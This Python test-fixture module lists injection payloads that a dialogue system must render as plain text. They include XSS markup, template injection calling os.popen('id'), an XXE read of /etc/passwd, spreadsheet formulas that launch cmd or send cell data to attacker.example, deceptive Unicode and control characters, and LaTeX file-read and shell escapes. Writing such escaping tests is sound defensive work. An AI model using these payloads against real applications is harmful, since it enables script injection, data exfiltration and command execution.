"""Text that strangers put into dialogues: what must stay text, wherever it is shown."""

from __future__ import annotations

MARKUP = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 1</script>",
    "<ScRiPt src=//attacker.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="window.pwned=1">',
    "'><svg/onload=window.pwned=1>",
    '" onmouseover="window.pwned=1" x="',
    "' onfocus='window.pwned=1' autofocus='",
    "` onpointerenter=window.pwned=1 `",
    "x onclick=window.pwned=1 y",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>window.pwned=1</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe src='https://attacker.example/'></iframe>",
    "<object data='https://attacker.example/x.swf'></object>",
    "<embed src='https://attacker.example/x'>",
    "<link rel=stylesheet href='https://attacker.example/x.css'>",
    "<style>body{display:none}@import 'https://attacker.example/x.css'</style>",
    "</style><style>*{background:url(https://attacker.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<base href='https://attacker.example/'>",
    "<form action='https://attacker.example/'><input name=q><button>go</button></form>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<template><script>window.pwned=1</script></template>",
    "</title><script>window.pwned=1</script>",
    "</textarea></option></select><script>window.pwned=1</script>",
    "</details></section></main><h1>yours</h1>",
    "<!-- a comment --><b>after</b>",
    "--><script>window.pwned=1</script><!--",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "${window.pwned=1}",
    "#{7*7}",
)
CHARACTERS = (
    "\u202eevil\u202c fdp.exe",
    "\u2066\u2067isolated\u2069",
    "zero\u200bwidth\u2060joined\ufeff",
    "null\x00byte",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b31mone byte\x85",
    "bell\x07 back\x08 feed\x0c",
    "line\u2028and\u2029paragraph",
    "tag\U000e0041\U000e0042",
    "Z\u0351\u036b\u0343a\u0363\u0308lgo",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)
MARKS = (
    "[click](javascript:window.pwned=1)",
    "![x](https://attacker.example/x.png)",
    "a | b | <script>window.pwned=1</script>",
    "```\n<script>window.pwned=1</script>\n```",
    "`code` **bold** _it_",
    "\\input{/etc/passwd} \\write18{id}",
    "\\end{tabular}\\catcode`\\%=12 % & $ # _ { } ~ ^ ^^5cinput",
)
PAYLOADS = (*MARKUP, *TEMPLATES, *CHARACTERS, *FORMULAS, *MARKS)

LONE_SURROGATE = "half \ud83d of a pair"
"""Cannot be stored as UTF-8, so it comes from elsewhere than a run: a title, an edited answer."""
